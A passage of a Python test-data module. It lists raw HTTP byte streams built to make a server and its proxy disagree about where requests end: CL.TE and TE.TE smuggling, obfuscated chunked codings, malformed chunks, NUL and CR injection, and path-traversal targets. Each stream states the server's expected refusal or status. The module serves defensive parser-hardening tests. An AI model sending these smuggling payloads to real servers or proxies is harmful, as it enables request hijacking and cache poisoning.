"""Byte streams that try to make a server and whatever stands before it disagree about where a request ends, what it asks,
or of whom. Each says what must become of it; test_hostile_streams.py sends them.

In a stream OUTER stands for the e-mail of the customer that the first request would make, and INNER for that of a second
request, the marker, which hides in it or comes behind it. Both are replaced by addresses of the same length."""

from collections import namedtuple

OUTER = b"outer." + b"0" * 20 + b"@example.net"
INNER = b"inner." + b"0" * 20 + b"@example.net"

# verdict  REFUSED   one answer of the service with one of these statuses, which closes; nothing was made (a library since
#                    1.0 may have refused it before)
#          REFUSED_ANYHOW   the same, but the answer may be the library's own, or there is none
#          ONE       exactly one request with one of these statuses, and the connection goes on
#          EITHER    refused anyhow, or exactly one request with one of these statuses
REFUSED, REFUSED_ANYHOW, ONE, EITHER = "refused", "refused anyhow", "one", "either"
Stream = namedtuple("Stream", "name data verdict statuses")
LIBRARY_REFUSES = (400, 405, 413, 414, 417, 431, 501, 505)

BODY = b'{"name":"Outer","email":"%s"}' % OUTER
N = str(len(BODY)).encode()
MARKER_BODY = b'{"name":"Marker","email":"%s"}' % INNER
MARKER = (b"POST /customers HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
          % len(MARKER_BODY)) + MARKER_BODY
M = str(len(MARKER)).encode()
TE, CL = b"Transfer-Encoding: ", b"Content-Length: "
JSON = b"Content-Type: application/json"
END = b"\r\n\r\n"


def chunked(body, size=None, end=b"0\r\n\r\n"):
    return (size or b"%x" % len(body)) + b"\r\n" + body + b"\r\n" + end


CHUNKED = chunked(BODY)


def post(*lines, line=b"POST /customers HTTP/1.1", host=b"Host: localhost", body=BODY):
    """A POST that makes the outer customer, with these header fields besides."""
    return b"\r\n".join([line] + ([host] if host else []) + [JSON] + list(lines)) + END + body


def hiding(*lines, line=b"GET /customers?limit=1 HTTP/1.1"):
    """A request whose body is the marker."""
    return b"\r\n".join([line, b"Host: localhost"] + list(lines)) + END + MARKER


def early(line):
    """A head with a line that could be taken for its end, and behind it the marker, whose lines could be taken for fields."""
    return b"\r\n".join([b"GET /customers?limit=1 HTTP/1.1", b"Host: localhost", line,
                         MARKER.replace(b"POST /", b"POST http://localhost:80/")])


def refused(*rows):
    return [Stream(name, data, REFUSED, (400,)) for name, data in rows]


def refused_anyhow(*rows):
    return [Stream(name, data, REFUSED_ANYHOW, LIBRARY_REFUSES) for name, data in rows]


def one(*rows):
    return [Stream(name, data, ONE, statuses) for name, statuses, data in rows]


def either(*rows):
    return [Stream(name, data, EITHER, statuses) for name, statuses, data in rows]


# ---- Content-Length against Transfer-Encoding: CL.TE, TE.CL, TE.TE, CL.CL (RFC 9112 section 6) ----

FRAMING = refused(
    ("length and chunked", post(CL + N, TE + b"chunked", body=CHUNKED)),
    ("chunked and length", post(TE + b"chunked", CL + N, body=CHUNKED)),
    ("length zero and chunked", post(CL + b"0", TE + b"chunked", body=CHUNKED)),
    ("length and chunked, body by length", post(CL + N, TE + b"chunked")),
    ("length and chunked, empty chunks", post(CL + b"5", TE + b"chunked", body=b"0\r\n\r\n")),
    ("length and chunked, marker behind the last chunk", post(CL + str(5 + len(MARKER)).encode(), TE + b"chunked",
                                                               body=b"0\r\n\r\n" + MARKER)),
    ("length and chunked, marker in a chunk", post(CL + b"4", TE + b"chunked", body=chunked(MARKER))),
    ("length and an unknown coding", post(CL + N, TE + b"xchunked")),
    ("length and identity", post(CL + N, TE + b"identity")),
    ("two different lengths", post(CL + N, CL + b"0")),
    ("two different lengths, turned", post(CL + b"0", CL + N)),
    ("the same length twice", post(CL + N, CL + N)),
    ("two lengths in two spellings", post(CL + N, b"content-length: 0")),
    ("two lengths with a field between", post(CL + N, b"X: y", CL + b"0")),
    ("three lengths", post(CL + N, CL + N, CL + N)),
    ("an unknown coding", post(TE + b"xchunked", body=CHUNKED)),
    ("a coding with a letter more", post(TE + b"chunkedx", body=CHUNKED)),
    ("a coding list", post(TE + b"gzip, chunked", body=CHUNKED)),
    ("chunked, then gzip", post(TE + b"chunked, gzip", body=CHUNKED)),
    ("chunked, identity", post(TE + b"chunked, identity", body=CHUNKED)),
    ("identity", post(TE + b"identity", body=CHUNKED)),
    ("identity, chunked", post(TE + b"identity, chunked", body=CHUNKED)),
    ("deflate", post(TE + b"deflate", body=CHUNKED)),
    ("trailers as a coding", post(TE + b"trailers, chunked", body=CHUNKED)),
    ("chunked twice in a list", post(TE + b"chunked, chunked", body=CHUNKED)),
    ("chunked with a comma behind", post(TE + b"chunked,", body=CHUNKED)),
    ("chunked with a comma before", post(TE + b",chunked", body=CHUNKED)),
    ("two coding fields", post(TE + b"chunked", TE + b"identity", body=CHUNKED)),
    ("two coding fields, turned", post(TE + b"identity", TE + b"chunked", body=CHUNKED)),
    ("chunked in two fields", post(TE + b"chunked", TE + b"chunked", body=CHUNKED)),
    ("two coding fields in two spellings", post(TE + b"chunked", b"transfer-encoding: x", body=CHUNKED)),
    ("an empty coding", post(TE, body=CHUNKED)),
    ("a second, empty coding", post(TE + b"chunked", TE, body=CHUNKED)),
    ("chunked with a vertical tab", post(TE + b"\x0bchunked", body=CHUNKED)),
    ("chunked before a vertical tab", post(TE + b"chunked\x0b", body=CHUNKED)),
    ("chunked before a form feed", post(TE + b"chunked\x0c", body=CHUNKED)),
    ("chunked with a no-break space", post(TE + b"chunked\xa0", body=CHUNKED)),
    ("chunked with a next line", post(TE + b"chunked\x85", body=CHUNKED)),
    ("chunked in double quotes", post(TE + b'"chunked"', body=CHUNKED)),
    ("chunked in single quotes", post(TE + b"'chunked'", body=CHUNKED)),
    ("chunked in full-width letters", post(TE + "ｃhunked".encode(), body=CHUNKED)),
    ("chunked with a parameter", post(TE + b"chunked;x=1", body=CHUNKED)),
    ("chunked with an empty parameter", post(TE + b"chunked;", body=CHUNKED)),
    ("chunked with a weight", post(TE + b"chunked;q=0.5", body=CHUNKED)),
    ("chunked with a blank inside", post(TE + b"chun ked", body=CHUNKED)),
    ("chunked on HTTP/1.0", post(TE + b"chunked", line=b"POST /customers HTTP/1.0", body=CHUNKED)),
    ("chunked and length on HTTP/1.0", post(TE + b"chunked", CL + N, line=b"POST /customers HTTP/1.0", body=CHUNKED)),
    ("chunked on HTTP/1.0, kept alive", post(TE + b"chunked", b"Connection: keep-alive", line=b"POST /customers HTTP/1.0",
                                              body=CHUNKED)),
    ("length and chunked on GET", hiding(CL + b"0", TE + b"chunked")),
    ("two lengths on GET", hiding(CL + b"0", CL + M)),
    ("two lengths on HEAD", hiding(CL + b"0", CL + M, line=b"HEAD /customers HTTP/1.1")),
    ("two lengths on OPTIONS", hiding(CL + b"0", CL + M, line=b"OPTIONS /customers HTTP/1.1")),
    ("length and chunked that Connection names", post(CL + N, TE + b"chunked", b"Connection: Content-Length", body=CHUNKED)),
) + refused_anyhow(
    ("a list of lengths", post(CL + N + b", " + N)),
    ("a list of different lengths", post(CL + N + b",0")),
    ("a list of lengths that ends empty", post(CL + N + b",")),
    ("a length with plus", post(CL + b"+" + N)),
    ("a length with minus", post(CL + b"-" + N)),
    ("minus zero", post(CL + b"-0")),
    ("a length in hexadecimal", post(CL + b"0x10")),
    ("a length with a letter", post(CL + N + b"a")),
    ("a length behind a letter", post(CL + b"a" + N)),
    ("a length with a fraction", post(CL + N + b".0")),
    ("a length with an exponent", post(CL + b"1e1")),
    ("a length with a blank inside", post(CL + b"1 6")),
    ("a length with a tab inside", post(CL + b"1\t6")),
    ("a length with a semicolon", post(CL + N + b";x=1")),
    ("a length in quotes", post(CL + b'"' + N + b'"')),
    ("a length with an underscore", post(CL + b"1_0")),
    ("a length in full-width digits", post(CL + "１６".encode())),
    ("a length in Arabic digits", post(CL + "٣".encode())),
    ("a length behind a no-break space", post(CL + b"\xa0" + N)),
    ("a length before a no-break space", post(CL + N + b"\xa0")),
    ("a length behind a vertical tab", post(CL + b"\x0b" + N)),
    ("a length before a form feed", post(CL + N + b"\x0c")),
    ("an empty length", post(CL)),
    ("a length of blanks", post(CL + b"   ")),
    ("a length with plus on DELETE", hiding(CL + b"+0", line=b"DELETE /customers HTTP/1.1")),
    ("a length beyond 64 bits", post(CL + b"18446744073709551632")),
    ("a length of a hundred digits", post(CL + b"9" * 100)),
    ("a length that a NUL cuts", post(CL + b"1\0" + N)),
    ("a length that a NUL begins", post(CL + b"\0" + N)),
    ("a length that a NUL cuts, before another field", post(CL + b"1\0" + N, b"X: y")),
    ("a blank before the colon of the length", post(b"Content-Length : " + N)),
    ("a blank before the colon of the coding", post(b"Transfer-Encoding : chunked", body=CHUNKED)),
    ("a blank before the colon of the coding, and a length", post(b"Transfer-Encoding : chunked", CL + N, body=CHUNKED)),
    ("a tab before the colon of the coding", post(b"Transfer-Encoding\t: chunked", body=CHUNKED)),
    ("a vertical tab before the colon of the coding", post(b"Transfer-Encoding\x0b: chunked", CL + N)),
    ("a NUL before the colon of the coding", post(b"Transfer-Encoding\0: chunked", CL + N)),
    ("a no-break space before the colon of the coding", post(b"Transfer-Encoding\xa0: chunked", CL + N)),
    ("a NUL behind chunked", post(TE + b"chunked\0", body=CHUNKED)),
    ("a NUL behind another coding", post(TE + b"xchunked\0chunked", body=CHUNKED)),
    ("a NUL before chunked", post(TE + b"\0chunked", body=CHUNKED)),
    ("a folded coding", post(b"Transfer-Encoding:\r\n chunked", body=CHUNKED)),
    ("a folded coding with a tab", post(b"Transfer-Encoding:\r\n\tchunked", CL + N)),
    ("a coding folded in its middle", post(b"Transfer-Encoding: chun\r\n ked", body=CHUNKED)),
    ("a folded length", post(b"X: y\r\n Content-Length: 5", CL + N)),
    ("a folded length's value", post(b"Content-Length:\r\n " + N)),
    ("a length that goes on in the next line", post(CL + b"1\r\n 6")),
    ("a coding whose line a lone CR ends", post(CL + N, b"X: y\rTransfer-Encoding: chunked")),
    ("a lone CR behind chunked", post(TE + b"chunked\r\r\nX: y", body=CHUNKED)),
    ("the name of the coding in two lines", post(b"Transfer-\r\nEncoding: chunked", CL + N)),
    ("the first field behind a blank", post(CL + N, line=b"POST /customers HTTP/1.1\r\n Transfer-Encoding: chunked")),
    ("the first field behind a tab", post(CL + N, line=b"POST /customers HTTP/1.1\r\n\tTransfer-Encoding: chunked")),
)

# What is no framing at all, or one that is plain: one request, and what hides in its body stays body.
PLAIN = one(
    ("a clean request with a length", (201, 409), post(CL + N)),
    ("a clean chunked request", (201, 409), post(TE + b"chunked", body=CHUNKED)),
    ("a length with leading zeros", (201, 409), post(CL + b"000" + N)),
    ("a length behind blanks", (201, 409), post(b"Content-Length: \t " + N)),
    ("a length without a blank", (201, 409), post(b"Content-Length:" + N)),
    ("chunked in capitals", (201, 409), post(TE + b"CHUNKED", body=CHUNKED)),
    ("chunked in both cases", (201, 409), post(b"tRaNsFeR-eNcOdInG: cHuNkEd", body=CHUNKED)),
    ("chunked behind a tab", (201, 409), post(b"Transfer-Encoding:\tchunked", body=CHUNKED)),
    ("TE beside the coding", (201, 409), post(TE + b"chunked", b"TE: trailers", body=CHUNKED)),
    ("a coding with an underscore", (200,), hiding(b"Transfer_Encoding: chunked", CL + M)),
    ("a coding with a letter before", (200,), hiding(b"XTransfer-Encoding: chunked", CL + M)),
    ("a length with an underscore, and a length", (200,), hiding(b"Content_Length: 0", CL + M)),
    ("Content-Encoding: chunked", (415,), post(CL + N, b"Content-Encoding: chunked")),
    ("a length that Connection names", (200,), hiding(CL + M, b"Connection: Content-Length")),
    ("a host that Connection names", (200,), hiding(CL + M, b"Connection: Host, keep-alive")),
    ("upgrade to h2c with a body", (200,), hiding(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c",
                                                  b"HTTP2-Settings: AAMAAABkAAQAAP__", CL + M)),
    ("upgrade to a web socket with a body", (200,), hiding(b"Connection: Upgrade", b"Upgrade: websocket", CL + M,
                                                            b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==")),
    ("a body behind 100-continue", (200,), hiding(b"Expect: 100-continue", CL + M)),
    ("a body of GET", (200,), hiding(CL + M)),
    ("a chunked body of GET", (200,), hiding(TE + b"chunked").replace(MARKER, chunked(MARKER))),
    ("a body of DELETE", (404,), hiding(CL + M, line=b"DELETE /customers/01890a5d-ac96-7747-9c8a-8f7a1a2b3c4d HTTP/1.1")),
    ("a body of OPTIONS", (204,), hiding(CL + M, line=b"OPTIONS /customers HTTP/1.1")),
    ("a body of a path that is none", (404,), hiding(CL + M, line=b"POST /nowhere HTTP/1.1")),
    ("a body of a method that is none", (405,), hiding(CL + M, line=b"BREW /customers HTTP/1.1")),
    ("a body that is the marker", (400,), hiding(JSON, CL + M, line=b"POST /customers HTTP/1.1")),
) + either(
    ("chunked before a tab", (201, 409), post(TE + b"chunked\t", body=CHUNKED)),
    ("chunked before a blank", (201, 409), post(TE + b"chunked ", body=CHUNKED)),
    ("a length before blanks", (201, 409), post(CL + N + b" \t")),
)

# ---- chunks (RFC 9112 section 7.1) ----

C = TE + b"chunked"
CHUNKS = refused_anyhow(
    ("a chunk size beyond 64 bits", post(C, body=chunked(BODY, b"10000000000000010"))),
    ("a chunk size that wraps to the body", post(C, body=chunked(BODY, b"100000000000000%02x" % len(BODY)))),
    ("a chunk size with minus", post(C, body=chunked(BODY, b"-10"))),
    ("a chunk size with plus", post(C, body=chunked(BODY, b"+%x" % len(BODY)))),
    ("a chunk size with 0x", post(C, body=chunked(BODY, b"0x10"))),
    ("a chunk size of letters", post(C, body=chunked(BODY, b"zz"))),
    ("a chunk size with a letter behind", post(C, body=chunked(BODY, b"%xg" % len(BODY)))),
    ("a chunk size with an underscore", post(C, body=chunked(BODY, b"1_0"))),
    ("a chunk size with a point", post(C, body=chunked(BODY, b"1.0"))),
    ("a chunk size behind a blank", post(C, body=chunked(BODY, b" %x" % len(BODY)))),
    ("a chunk size behind a NUL", post(C, body=chunked(BODY, b"\0%x" % len(BODY)))),
    ("a chunk size before a NUL", post(C, body=chunked(BODY, b"%x\0" % len(BODY)))),
    ("a chunk size in full-width digits", post(C, body=chunked(BODY, "１６".encode()))),
    ("an empty chunk size", post(C, body=b"\r\n" + BODY + b"\r\n0\r\n\r\n")),
    ("a chunk extension without a size", post(C, body=chunked(BODY, b";x=y"))),
    ("a chunk longer than its size", post(C, body=chunked(BODY, b"4"))),
    ("a chunk that ends without CR LF", post(C, body=b"%x\r\n%s0\r\n\r\n" % (len(BODY), BODY))),
    ("a chunk that ends with other bytes", post(C, body=b"%x\r\n%sXX0\r\n\r\n" % (len(BODY), BODY))),
    ("a chunk that ends with LF CR", post(C, body=b"%x\r\n%s\n\r0\r\n\r\n" % (len(BODY), BODY))),
    ("a chunk that ends with CR alone", post(C, body=b"%x\r\n%s\rX0\r\n\r\n" % (len(BODY), BODY))),
    ("a last chunk with minus", post(C, body=chunked(BODY, end=b"-0\r\n\r\n"))),
    ("a chunk size that CR alone ends", post(C, body=b"%x\r%s\r\n0\r\n\r\n" % (len(BODY), BODY))),
    ("a trailer without a colon", post(C, body=chunked(BODY, end=b"0\r\nNonsense\r\n\r\n"))),
    ("a request for a trailer", post(C, body=chunked(BODY, end=b"0\r\n") + MARKER)),
    ("other bytes behind the last chunk", post(C, body=chunked(BODY, end=b"0\r\nX\r\n\r\n"))),
) + one(
    ("a chunk size in capitals", (201, 409), post(C, body=chunked(BODY + b" " * 10, b"4B"))),
    ("a chunk size with leading zeros", (201, 409), post(C, body=chunked(BODY, b"0000%x" % len(BODY)))),
    ("chunks of one byte", (201, 409), post(C, body=b"".join(b"1\r\n%c\r\n" % b for b in BODY) + b"0\r\n\r\n")),
    ("a last chunk of two zeros", (201, 409), post(C, body=chunked(BODY, end=b"00\r\n\r\n"))),
    ("a trailer", (201, 409), post(C, body=chunked(BODY, end=b"0\r\nX-Trailer: a\r\n\r\n"))),
    ("a chunk that looks like the last one and a request", (400,), hiding(JSON, C, line=b"POST /customers HTTP/1.1").replace(
        MARKER, chunked(b"0\r\n\r\n" + MARKER))),
) + either(
    # Debian 13's library takes no extension.
    ("a chunk extension", (201, 409), post(C, body=chunked(BODY, b"%x;x=y" % len(BODY)))),
    ("a chunk extension in quotes", (201, 409), post(C, body=chunked(BODY, b'%x;x="y;z"' % len(BODY)))),
    ("a chunk extension that looks like a request", (201, 409), post(C, body=chunked(BODY, b"%x;x=POST /customers HTTP/1.1"
                                                                                      % len(BODY)))),
    ("a last chunk with an extension", (201, 409), post(C, body=chunked(BODY, end=b"0;x=y\r\n\r\n"))),
    ("a CR alone in a chunk extension", (201, 409), post(C, body=chunked(BODY, b"%x;x\ry" % len(BODY)))),
    ("a trailer that is folded", (201, 409), post(C, body=chunked(BODY, end=b"0\r\n X: y\r\n\r\n"))),
    ("a length in a trailer", (201, 409), post(C, body=chunked(BODY, end=b"0\r\nContent-Length: 99\r\n\r\n"))),
    ("a coding in a trailer", (201, 409), post(C, body=chunked(BODY, end=b"0\r\nTransfer-Encoding: chunked\r\n\r\n"))),
    ("a host in a trailer", (201, 409), post(C, body=chunked(BODY, end=b"0\r\nHost: evil.example\r\n\r\n"))),
    ("an If-Match in a trailer", (201, 409), post(C, body=chunked(BODY, end=b'0\r\nIf-Match: "1"\r\n\r\n'))),
    ("a chunk size before a blank", (201, 409), post(C, body=chunked(BODY, b"%x " % len(BODY)))),
    ("a chunk size that LF alone ends", (201, 409), post(C, body=b"%x\n%s\r\n0\r\n\r\n" % (len(BODY), BODY))),
    ("a chunk that LF alone ends", (201, 409), post(C, body=b"%x\r\n%s\n0\r\n\r\n" % (len(BODY), BODY))),
    ("a last chunk that LF alone ends", (201, 409), post(C, body=chunked(BODY, end=b"0\n\n"))),
    ("LF alone in a chunk extension", (201, 409), post(C, body=chunked(BODY, b"%x;x\ny" % len(BODY)))),
    ("CR LF in a quoted chunk extension", (400,), post(C, body=chunked(BODY, b'%x;x="\r\n' % len(BODY)))),
)

# ---- the request line (RFC 9112 section 3) ----

LINE = refused_anyhow(
    ("no version", post(CL + N, line=b"POST /customers")),
    ("version 0.9", post(CL + N, line=b"POST /customers HTTP/0.9")),
    ("version 2", post(CL + N, line=b"POST /customers HTTP/2.0")),
    ("version 3", post(CL + N, line=b"POST /customers HTTP/3")),
    ("version 1", post(CL + N, line=b"POST /customers HTTP/1")),
    ("version 11", post(CL + N, line=b"POST /customers HTTP/11")),
    ("version 1.x", post(CL + N, line=b"POST /customers HTTP/1.x")),
    ("version 1,1", post(CL + N, line=b"POST /customers HTTP/1,1")),
    ("version -1.1", post(CL + N, line=b"POST /customers HTTP/-1.1")),
    ("a version with a letter behind", post(CL + N, line=b"POST /customers HTTP/1.1x")),
    ("a version with a blank inside", post(CL + N, line=b"POST /customers HTTP/ 1.1")),
    ("a version in lower case", post(CL + N, line=b"POST /customers http/1.1")),
    ("another protocol", post(CL + N, line=b"POST /customers ICY/1.1")),
    ("a blank in the target", post(CL + N, line=b"POST /customers x HTTP/1.1")),
    ("two versions", post(CL + N, line=b"POST /customers HTTP/1.1 HTTP/1.1")),
    ("a request in the target", post(CL + N, line=b"POST /customers HTTP/1.1 X: POST /x HTTP/1.1")),
    ("a tab in the target", post(CL + N, line=b"POST /customers\tx HTTP/1.1")),
    ("a target that a NUL cuts", post(CL + N, line=b"POST /customers\0/x HTTP/1.1")),
    ("a query that a NUL cuts", post(CL + N, line=b"POST /customers?\0x HTTP/1.1")),
    ("a control character in the target", post(CL + N, line=b"POST /customers\x01 HTTP/1.1")),
    ("DEL in the target", post(CL + N, line=b"POST /customers\x7f HTTP/1.1")),
    ("a vertical tab for a blank", post(CL + N, line=b"POST\x0b/customers HTTP/1.1")),
    ("a NUL before the method", post(CL + N, line=b"\0POST /customers HTTP/1.1")),
    ("a NUL in the method", post(CL + N, line=b"PO\0ST /customers HTTP/1.1")),
    ("a NUL at the end of the method", post(CL + N, line=b"POST\0 /customers HTTP/1.1")),
    ("a parenthesis in the method", post(CL + N, line=b"P(OST /customers HTTP/1.1")),
    ("a colon behind the method", post(CL + N, line=b"POST: /customers HTTP/1.1")),
    ("a method of high bytes", post(CL + N, line="PÖST /customers HTTP/1.1".encode())),
    ("no method", post(CL + N, line=b" /customers HTTP/1.1")),
    ("no target", post(CL + N, line=b"POST  HTTP/1.1")),
    ("only a method", b"POST\r\n\r\n"),
    ("a field for a request line", b"Host: localhost\r\n\r\n"),
    ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ("a TLS hello", bytes.fromhex("16030100a5010000a1") + b"\x03" * 60 + b"\r\n\r\n"),
    ("a PROXY line", b"PROXY TCP4 192.0.2.1 192.0.2.2 56324 443\r\n" + post(CL + N)),
    ("noise", bytes(range(1, 256)) + b"\r\n\r\n"),
    ("a target without a slash", post(CL + N, line=b"POST customers HTTP/1.1")),
    ("a target of another scheme", post(CL + N, line=b"POST ftp://localhost/customers HTTP/1.1")),
    ("a target of a scheme alone", post(CL + N, line=b"POST javascript:x HTTP/1.1")),
    ("a target of a backslash", post(CL + N, line=b"POST \\customers HTTP/1.1")),
) + either(
    ("two blanks behind the method", (201, 409), post(CL + N, line=b"POST  /customers HTTP/1.1")),
    ("two blanks before the version", (201, 409), post(CL + N, line=b"POST /customers  HTTP/1.1")),
    ("a blank behind the version", (201, 409), post(CL + N, line=b"POST /customers HTTP/1.1 ")),
    ("tabs for blanks", (201, 409), post(CL + N, line=b"POST\t/customers\tHTTP/1.1")),
    ("a blank before the method", (201, 409), post(CL + N, line=b" POST /customers HTTP/1.1")),
    ("an empty line before", (201, 409), b"\r\n" + post(CL + N)),
    ("many empty lines before", (201, 409), b"\r\n" * 20 + post(CL + N)),
    ("LF before", (201, 409), b"\n" + post(CL + N)),
    ("CR before", (201, 409), b"\r" + post(CL + N)),
    ("version 1.2", (201, 409), post(CL + N, line=b"POST /customers HTTP/1.2")),
    ("version 1.10", (201, 409), post(CL + N, line=b"POST /customers HTTP/1.10")),
    ("a request line that LF alone ends", (201, 409), post(CL + N).replace(b"HTTP/1.1\r\n", b"HTTP/1.1\n")),
    ("LF alone at all line ends", (201, 409), post(CL + N).replace(b"\r\n", b"\n")),
    ("a line end of CR CR LF", (201, 409), post(CL + N).replace(b"HTTP/1.1\r\n", b"HTTP/1.1\r\r\n")),
    ("an end of the head by LF LF", (201, 409), post(CL + N).replace(b"\r\n\r\n", b"\n\n", 1)),
    ("an end of the head by CR LF LF", (201, 409), post(CL + N).replace(b"\r\n\r\n", b"\r\n\n", 1)),
    ("an end of the head by LF CR LF", (201, 409), post(CL + N).replace(b"\r\n\r\n", b"\n\r\n", 1)),
    ("TRACE", (405,), hiding(CL + M, line=b"TRACE /customers HTTP/1.1")),
    ("CONNECT", (400, 404, 405), post(CL + N, line=b"CONNECT localhost:443 HTTP/1.1")),
    ("CONNECT to a path", (404, 405), post(CL + N, line=b"CONNECT /customers HTTP/1.1")),
    ("HTTP/1.0 that keeps alive", (201, 409), post(CL + N, b"Connection: keep-alive", line=b"POST /customers HTTP/1.0")),
)

# ---- methods and paths: what is not exactly ours is not found, wherever it seems to lead ----


def at(target):
    return post(CL + N, line=b"POST %s HTTP/1.1" % target)


PATHS = one(
    ("the method in lower case", (405,), post(CL + N, line=b"post /customers HTTP/1.1")),
    ("the method in both cases", (405,), post(CL + N, line=b"Post /customers HTTP/1.1")),
    ("a method of WebDAV", (405,), post(CL + N, line=b"PROPFIND /customers HTTP/1.1")),
    ("a long method", (405,), post(CL + N, line=b"P" * 2000 + b" /customers HTTP/1.1")),
    ("GET that overrides its method by a header field", (200,), post(
        CL + N, b"X-HTTP-Method-Override: POST", b"X-HTTP-Method: POST", b"X-Method-Override: POST",
        line=b"GET /customers?limit=1 HTTP/1.1")),
    ("GET that overrides its method by the query", (400,), post(CL + N, line=b"GET /customers?_method=POST HTTP/1.1")),
    ("a path with two dots", (404,), at(b"/x/../customers")),
    ("a path with one dot", (404,), at(b"/./customers")),
    ("two slashes", (404,), at(b"//customers")),
    ("a slash behind", (404,), at(b"/customers/")),
    ("a path in capitals", (404,), at(b"/CUSTOMERS")),
    ("escaped dots", (404,), at(b"/x/%2e%2e/customers")),
    ("dots escaped twice", (404,), at(b"/x/%252e%252e/customers")),
    ("an escaped slash", (404,), at(b"/x%2f..%2fcustomers")),
    ("an escaped slash before", (404,), at(b"/%2fcustomers")),
    ("an escaped backslash", (404,), at(b"/x%5c..%5ccustomers")),
    ("an escaped NUL", (404,), at(b"/customers%00")),
    ("an escaped NUL and more", (404,), at(b"/customers%00.json")),
    ("an escaped line end", (404,), at(b"/customers%0d%0aX:%20y")),
    ("a path parameter", (404,), at(b"/customers;x=1")),
    ("a path parameter of dots", (404,), at(b"/x/..;/customers")),
    ("a fragment", (404,), at(b"/customers#x")),
    ("a lone per cent sign", (404,), at(b"/customers%")),
    ("an escape that is none", (404,), at(b"/customers%zz")),
    ("an escape of IIS", (404,), at(b"/%u0063ustomers")),
    ("an overlong slash", (404,), at(b"/x%c0%af..%c0%afcustomers")),
    ("an extension", (404,), at(b"/customers.json")),
    ("the admin port's metrics", (404,), at(b"/metrics")),
    ("the admin port's metrics, by dots", (404,), at(b"/customers/../metrics")),
    ("the admin port's readiness", (404,), at(b"/readyz")),
    ("a whole URI of another host", (201, 409), at(b"http://other.example/customers")),
    ("a whole URI in capitals", (201, 409), at(b"HTTP://OTHER.EXAMPLE/customers")),
    ("a whole URI with a user", (201, 409), at(b"http://a:b@other.example/customers")),
    ("a whole URI without a host", (201, 409), at(b"http:///customers")),
    ("a whole URI without a path", (404,), at(b"http://other.example")),
    ("a whole URI with a path of its authority", (404,), at(b"http://other.example//customers")),
    ("a query that is not known", (400,), at(b"/customers?x=1")),
    ("a query with an escaped NUL", (400,), at(b"/customers?%00=1")),
    ("a query with bad UTF-8", (400,), at(b"/customers?email=%ff")),
    ("a parameter twice", (400,), post(CL + N, line=b"GET /customers?limit=1&limit=2 HTTP/1.1")),
    ("a parameter twice, once escaped", (400,), post(CL + N, line=b"GET /customers?limit=1&%6cimit=2 HTTP/1.1")),
    ("the path in a field of a proxy", (404,), post(CL + N, b"X-Original-URL: /customers", b"X-Rewrite-URL: /customers",
                                                     line=b"POST /nowhere HTTP/1.1")),
    ("everybody's OPTIONS", (204, 404), hiding(CL + M, line=b"OPTIONS * HTTP/1.1")),
) + either(
    ("high bytes in the path", (404,), at("/cüstomers".encode())),
    ("bad UTF-8 in the path", (404,), at(b"/customers\xff")),
    ("the asterisk for POST", (400, 404, 405), at(b"*")),
    ("an escaped path", (201, 409, 404), at(b"/%63ustomers")),
) + [Stream("a long target", at(b"/customers?" + b"x" * 9000), REFUSED, (414,)),
     Stream("a target beyond the library's memory", at(b"/customers?" + b"x" * 70000), REFUSED_ANYHOW, LIBRARY_REFUSES)]

# ---- header fields (RFC 9112 section 5) ----

FIELDS = refused(
    ("no host", post(CL + N, host=None)),
    ("two hosts", post(b"Host: b", CL + N)),
    ("the same host twice", post(b"Host: localhost", CL + N)),
    ("two hosts in two spellings", post(b"hOST: b", CL + N)),
    ("two hosts, one empty", post(b"Host:", CL + N)),
    ("a host with a blank", post(CL + N, host=b"Host: a b")),
    ("a host with a slash", post(CL + N, host=b"Host: a/b")),
    ("a host with a user", post(CL + N, host=b"Host: a@b")),
    ("a host that is a URI", post(CL + N, host=b"Host: http://a/")),
    ("a host with a query", post(CL + N, host=b"Host: a?b")),
    ("a host with a fragment", post(CL + N, host=b"Host: a#b")),
    ("a host with a backslash", post(CL + N, host=b"Host: a\\b")),
    ("a host of high bytes", post(CL + N, host="Host: ä".encode())),
    ("a host with markup", post(CL + N, host=b"Host: <script>")),
    ("a host with a quote", post(CL + N, host=b'Host: a"b')),
    ("a host of a thousand letters", post(CL + N, host=b"Host: " + b"a" * 1000)),
    ("a whole URI with two hosts", post(b"Host: b", CL + N, line=b"POST http://a/customers HTTP/1.1")),
    ("a whole URI without host field", post(CL + N, host=None, line=b"POST http://a/customers HTTP/1.1")),
    ("a name with a blank", post(b"X Y: a", CL + N)),
    ("a name with a parenthesis", post(b"(x): a", CL + N)),
    ("a name with a slash", post(b"X/Y: a", CL + N)),
    ("a name with a comma", post(b"X,Y: a", CL + N)),
    ("a name in quotes", post(b'"X": a', CL + N)),
    ("a name of high bytes", post("Ä: a".encode(), CL + N)),
    ("a control character in a value", post(b"X: a\x01b", CL + N)),
    ("an escape character in a value", post(b"X: a\x1b[31mb", CL + N)),
    ("DEL in a value", post(b"X: a\x7fb", CL + N)),
    ("a form feed in a value", post(b"X: a\x0cb", CL + N)),
    ("a control character in a name", post(b"X\x01Y: a", CL + N)),
) + refused_anyhow(
    ("a field without a colon", post(b"Nonsense", CL + N)),
    ("a value that a NUL cuts", post(CL + N, b"X: a\0b")),
    ("a value that a NUL cuts, before the length", post(b"X: a\0b", CL + N)),
    ("NUL in a field name", post(b"X\0Y: a", CL + N)),
    ("a field name that begins with NUL", post(b"\0X: y", CL + N)),
    ("a bare CR in a value", post(b"X: a\rContent-Length: 0", CL + N)),
    ("a bare CR behind a value", post(b"X: a\r", CL + N)),
    ("a folded value", post(b"X: a\r\n b", CL + N)),
    ("a folded host", post(CL + N, host=b"Host:\r\n localhost")),
    ("a blank before the colon", post(b"X : a", CL + N)),
    ("a blank before the colon of the host", post(CL + N, host=b"Host : localhost")),
    ("a line that begins with a tab", post(b"\tX: y", CL + N)),
    # To Debian 12's library these lines end the head: what follows would be the next request, a field by its form.
    ("an empty field name", post(CL + N, b": x")),
    ("an empty field name before the length", hiding(b": x", CL + M)),
    ("an empty field name before a request", early(b": x")),
    ("a lone colon", hiding(b":", CL + M)),
    ("a lone colon before a request", early(b":")),
    ("a lone NUL", hiding(b"\0", CL + M)),
    ("a lone NUL before a request", early(b"\0")),
    ("a field name that begins with NUL, before a request", early(b"\0X: y")),
    ("a blank line of one space", hiding(b" ", CL + M)),
